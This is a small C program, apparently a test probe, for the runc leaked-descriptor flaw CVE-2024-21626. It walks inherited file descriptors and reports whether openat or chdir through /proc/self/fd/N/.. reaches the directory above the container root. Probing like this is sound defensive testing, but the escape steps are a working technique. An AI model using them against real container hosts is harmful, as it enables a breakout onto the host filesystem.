/* attack_fds: uses whatever descriptors above 2 it was left (CVE-2024-21626): prints "open N" for each and "escape N"
 * for each through which it gets a file of the folder above, or becomes that folder's visitor. */
#include "attempt.h"

#include <fcntl.h>
#include <unistd.h>

int main(void)
{
	char path[64];

	for (int fd = 3; fd < 1024; fd++) {
		int above;

		if (fcntl(fd, F_GETFD) < 0)
			continue;
		printf("open %d\n", fd);
		above = openat(fd, "..", O_RDONLY | O_DIRECTORY);
		if (above >= 0)
			printf("escape %d\n", fd);
		close(above);
	}
	for (int fd = 3; fd < 64; fd++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d/..", fd);
		if (chdir(path) == 0)
			printf("visited %d\n", fd);
	}
	puts("ended");
	return 0;
}
